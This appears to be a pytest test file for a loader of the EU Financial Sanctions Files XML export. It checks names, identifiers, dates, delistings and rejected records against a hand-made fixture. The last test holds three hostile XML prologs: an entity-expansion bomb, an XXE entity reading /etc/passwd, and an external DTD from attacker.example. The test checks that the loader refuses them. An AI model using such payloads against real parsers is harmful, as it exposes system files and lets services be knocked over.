"""eu-xml: the EU Financial Sanctions Files export, read from a hand-made file valid by the XSD."""

from collections.abc import Callable
from pathlib import Path

import pytest
from lxml import etree

from loaders.eu_xml import listed_identifier, read_eu
from ownergraph.errors import UnreadableFileError
from ownergraph.ingest import LoadSummary
from ownergraph.model import Entity, Link, Listing, SourceFile
from ownergraph.workspace import Workspace

Load = Callable[..., LoadSummary]
FOLDER = Path(__file__).parents[1] / "fixtures" / "eu"
EXPORT = FOLDER / "fsf_export_handmade.xml"


@pytest.fixture(scope="module")
def records() -> list[object]:
    return list(read_eu(SourceFile(EXPORT, "eu-fsf")))


@pytest.fixture(scope="module")
def parties(records: list[object]) -> dict[str, Entity]:
    return {r.id: r for r in records if isinstance(r, Entity) and r.schema != "Address"}


@pytest.fixture(scope="module")
def listings(records: list[object]) -> dict[str, Listing]:
    return {r.entity: r for r in records if isinstance(r, Listing)}


def test_the_hand_made_fixture_is_valid_against_the_official_xsd() -> None:
    schema = etree.XMLSchema(etree.parse(FOLDER / "fsf_export_schema_1_1.xsd"))
    assert schema.validate(etree.parse(EXPORT)), schema.error_log


def test_a_russian_company_with_its_register_numbers_names_and_listing(
    parties: dict[str, Entity], listings: dict[str, Listing]
) -> None:
    firm = parties["139001"]
    assert (firm.schema, firm.country) == ("Company", "RU")
    assert firm.name == "JOINT STOCK COMPANY NORTHERN WIND ENGINEERING"
    assert firm.aliases == ("Акционерное общество «Северный ветер инжиниринг»", "AO SEVERNY VETER")
    assert firm.properties["weak_aliases"] == "AO SEVERNY VETER"
    assert firm.identifiers == (
        "eu:139001",
        "ogrn:1027700123450",
        "inn:7709543218",
        "kpp:770901001",
    )
    assert firm.properties["eu_reference_number"] == "EU.9001.12"
    assert firm.properties["contact_phone"] == "+7 495 123 45 67"
    listing = listings["139001"]
    assert (listing.authority, listing.list_name, listing.programmes) == ("EU", "EU FSF", ("RUS",))
    assert listing.listed_on == "2023-06-24"  # entry into force, the day after publication
    assert listing.properties["regulation"] == "2023/1214 (OJ L159I)"
    assert listing.properties["publication_url"].startswith("https://eur-lex.europa.eu/")


def test_a_street_address_becomes_a_registered_at_link(records: list[object]) -> None:
    links = [r for r in records if isinstance(r, Link)]
    assert [(link.source, link.target) for link in links if link.source == "139001"] == [
        ("139001", "addr:ru:ul lesnaya 5 bldg 2 moscow 125047 russia")
    ]
    assert not [link for link in links if link.source == "139002"]  # "Moscow" alone is no node


def test_a_person_with_names_in_three_scripts_birth_date_and_documents(
    parties: dict[str, Entity], listings: dict[str, Listing]
) -> None:
    person = parties["139002"]
    assert (person.schema, person.name) == ("Person", "Ivan Petrovich SIDOROV")
    assert person.aliases == (
        "Иван Петрович СИДОРОВ",
        "Іван Петрович СІДОРОВ",
        "Ivan Petrovitch SIDOROV",
    )
    assert (person.nationality, person.birth_date) == ("RU", "1961-04-15")
    assert person.properties["birth_place"] == "Kazan, Republic of Tatarstan, RUSSIA"
    assert person.properties["position"] == "Director General of JSC Northern Wind Engineering"
    # A "fiscal code" with valid INN check digits from Russia is an INN.
    assert person.identifiers == ("eu:139002", "passport:4509 123456", "inn:772712345605")
    assert listings["139002"].listed_on == "2022-03-09"  # the designation date


def test_partial_and_ranged_birth_dates_and_a_delisting(
    parties: dict[str, Entity], listings: dict[str, Listing]
) -> None:
    person = parties["139003"]
    assert person.birth_date == "1970-07"
    assert person.properties["birth_dates"] == "1970-07; circa 1968/1971"
    assert person.aliases == ("Аляксандр Віктаравіч КАВАЛЁЎ", "Александр Викторович КОВАЛЁВ")
    assert person.identifiers == ("eu:139003", "national-id:3150770A001PB1")
    assert (listings["139003"].programmes, listings["139003"].delisted_on) == (
        ("BLR",),
        "2024-02-26",
    )


def test_a_un_listed_enterprise_keeps_its_un_reference(
    parties: dict[str, Entity], listings: dict[str, Listing]
) -> None:
    komid = parties["139004"]
    assert (komid.schema, komid.country) == ("Organization", "KP")
    assert komid.identifiers == ("eu:139004", "un:KPe.001")
    assert listings["139004"].properties["designation_details"].startswith("Listed by the UN")


def test_a_non_gregorian_birth_year_and_an_unknown_citizenship(parties: dict[str, Entity]) -> None:
    person = parties["139005"]
    assert (person.birth_date, person.nationality, person.country) == (None, None, None)
    assert person.properties["birth_dates"] == "1340 (islamic calendar)"


def test_a_kazakh_registration_number_is_a_bin(parties: dict[str, Entity]) -> None:
    firm = parties["139006"]
    assert (firm.schema, firm.identifiers) == ("Company", ("eu:139006", "bin:220340001231"))
    assert firm.aliases == ("ТОО «Береке Трейд»",)


@pytest.mark.parametrize(
    ("scheme", "number", "country", "label", "expected"),
    [
        ("reg", "1027700123450", "RU", "", "ogrn:1027700123450"),
        ("reg", "1027700123451", "RU", "", "reg:1027700123451"),  # check digit wrong
        ("reg", "7709543218", None, "Tax Identification Number (INN)", "inn:7709543218"),
        ("national-id", "220340001231", "KZ", "", "iin:220340001231"),
        ("imo", "IMO 9234563", None, "", "imo:9234563"),
        ("passport", "  ", None, "", None),
    ],
)
def test_listed_identifiers_are_recognised_by_label_and_check_digits(
    scheme: str, number: str, country: str | None, label: str, expected: str | None
) -> None:
    person = scheme == "national-id"
    assert (
        listed_identifier(scheme, number, country=country, label=label, person=person) == expected
    )


def test_loading_twice_changes_nothing_and_a_newer_list_withdraws_what_it_dropped(
    tmp_path: Path, load: Load, workspace: Workspace
) -> None:
    first = load("eu-xml", EXPORT)
    assert (first.dataset, first.inserted, first.rejected) == ("eu-fsf", 18, 0)
    second = load("eu-xml", EXPORT)
    assert (second.inserted, second.updated, second.withdrawn) == (0, 0, 0)
    text = EXPORT.read_text(encoding="utf-8")
    start = text.index(
        '    <sanctionEntity designationDetails="" unitedNationId="" euReferenceNumber="EU.9006.08"'
    )
    newer = tmp_path / "newer.xml"
    newer.write_text(text[:start] + "</export>\n", encoding="utf-8")
    assert load("eu-xml", newer).withdrawn == 1
    withdrawn = workspace.query("SELECT entity_id FROM listings WHERE withdrawn_on IS NOT NULL")
    assert [row["entity_id"] for row in withdrawn] == ["eu-fsf:139006"]


def _variant(tmp_path: Path, old: str, new: str) -> Path:
    text = EXPORT.read_text(encoding="utf-8")
    assert old in text
    path = tmp_path / "export.xml"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return path


def test_an_entity_without_logical_id_is_rejected_and_the_rest_loads(
    tmp_path: Path, load: Load, workspace: Workspace
) -> None:
    path = _variant(
        tmp_path,
        'euReferenceNumber="EU.9002.37" logicalId="139002"',
        'euReferenceNumber="EU.9002.37"',
    )
    assert load("eu-xml", path).rejected == 1
    reject = workspace.query("SELECT line, location, reason, raw FROM rejects")[0]
    assert (reject["line"], reject["location"]) == (33, "/export/sanctionEntity[2]")
    assert "without logicalId" in reject["reason"]
    assert "SIDOROV" in reject["raw"]
    count = workspace.query("SELECT count(*) FROM entities WHERE schema != 'Address'")[0][0]
    assert count == 5


def test_an_unreadable_date_is_counted_and_the_entity_kept(
    tmp_path: Path, load: Load, workspace: Workspace
) -> None:
    path = _variant(tmp_path, 'birthdate="1961-04-15"', 'birthdate="1961-14-15"')
    summary = load("eu-xml", path)
    assert (summary.rejected, summary.notices["unreadable_date"]) == (0, 1)
    assert workspace.query("SELECT name FROM entities WHERE id = 'eu-fsf:139002'")[0][0] == (
        "Ivan Petrovich SIDOROV"
    )


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ('<export xmlns="http://eu.europa.ec/fpi/fsd/export"><sanctionEntity logicalId="1">',
         "malformed XML"),
        ("\x00\x01 garbage", "malformed XML"),
        ("<CONSOLIDATED_LIST/>", "not the EU FSF XML format"),
    ],
)  # fmt: skip
def test_a_truncated_garbage_or_foreign_file_is_unreadable(
    tmp_path: Path, load: Load, text: str, reason: str
) -> None:
    path = tmp_path / "export.xml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(UnreadableFileError, match=reason):
        load("eu-xml", path)


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE export [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE export [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE export SYSTEM "http://attacker.example/export.dtd">',
    ],
    ids=["entity-bomb", "xxe", "external-dtd"],
)
def test_documents_with_entities_or_external_dtds_are_refused(
    tmp_path: Path, load: Load, prolog: str
) -> None:
    path = tmp_path / "export.xml"
    path.write_text(
        f'{prolog}\n<export><sanctionEntity logicalId="1"><nameAlias wholeName="x"/>'
        "</sanctionEntity></export>",
        encoding="utf-8",
    )
    with pytest.raises(UnreadableFileError, match="refusing XML"):
        load("eu-xml", path)
